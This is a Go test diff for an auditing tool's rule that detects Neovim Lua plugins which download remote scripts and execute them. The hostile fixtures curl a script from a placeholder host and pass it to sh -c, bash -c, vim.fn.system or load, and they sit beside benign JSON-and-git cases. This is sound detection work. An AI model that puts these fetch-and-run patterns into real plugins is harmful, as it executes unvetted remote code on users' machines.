@@ -82,3 +82,27 @@ func TestLuaWrappedCommands(t *testing.T) {
 			"  local root = sh({ \"git\", \"rev-parse\", \"--show-toplevel\" })\n  sh({ \"rm\", \"-rf\", root .. \"/.cache/stylua\" })\n  return root\nend\nreturn M\n"}), none},
 	})
 }
+
+// TestLuaFetchShell: text a Lua plugin fetched (curl through vim.system,
+// vim.fn.system or jobstart, or a function of the plugin returning such
+// a fetch) handed to a shell as its command (sh -c of the callback's
+// stdout, vim.fn.system(out), jobstart's on_stdout data) or to load is
+// critical; fetched JSON decoded and a fetch's output given to git as an
+// argument are not findings, nor a wrapper's own parameter that shares a
+// fetched value's name.
+func TestLuaFetchShell(t *testing.T) {
+	crit, none := audit.Critical, audit.SeverityNone
+	plug := func(body string) map[string]string {
+		return nvimSkill(map[string]string{"lua/boot/update.lua": "local M = {}\nlocal u = \"https://hooks.tools.example/run.sh\"\n" + body + "\nreturn M\n"})
+	}
+	checkRule(t, "download-exec", map[string]systemCase{
+		"hostile/callback-sh-c":     {plug("function M.setup()\n  vim.system({ \"curl\", \"-fsSL\", u }, { text = true }, function(r)\n    vim.system({ \"sh\", \"-c\", r.stdout })\n  end)\nend"), crit},
+		"hostile/assigned-system":   {plug("function M.setup()\n  local out = vim.fn.system({ \"curl\", \"-fsSL\", u })\n  vim.fn.system({ \"bash\", \"-c\", out })\nend"), crit},
+		"hostile/jobstart-stdout":   {plug("vim.fn.jobstart({ \"curl\", \"-s\", u }, { stdout_buffered = true, on_stdout = function(_, data)\n  vim.fn.system(table.concat(data, \"\\n\"))\nend })"), crit},
+		"hostile/fetch-helper-load": {plug("local function get(url)\n  return vim.fn.system({ \"curl\", \"-fsSL\", url })\nend\nfunction M.setup()\n  local src = get(u)\n  local chunk = load(src)\n  chunk()\nend"), crit},
+		"benign/json-then-git": {plug("function M.update(dir)\n  local out = vim.fn.system({ \"curl\", \"-fsSL\", \"https://api.tools.example/latest.json\" })\n" +
+			"  local tag = vim.json.decode(out).tag\n  vim.fn.system({ \"git\", \"-C\", dir, \"checkout\", tag })\nend"), none},
+		"benign/wrapper-param-same-name": {plug("local function run(out)\n  return vim.fn.system(out)\nend\nfunction M.check()\n" +
+			"  vim.system({ \"curl\", \"-fsSL\", \"https://api.tools.example/v.json\" }, { text = true }, function(out)\n    M.v = vim.json.decode(out.stdout)\n  end)\n  run({ \"git\", \"status\" })\nend"), none},
+	})
+}
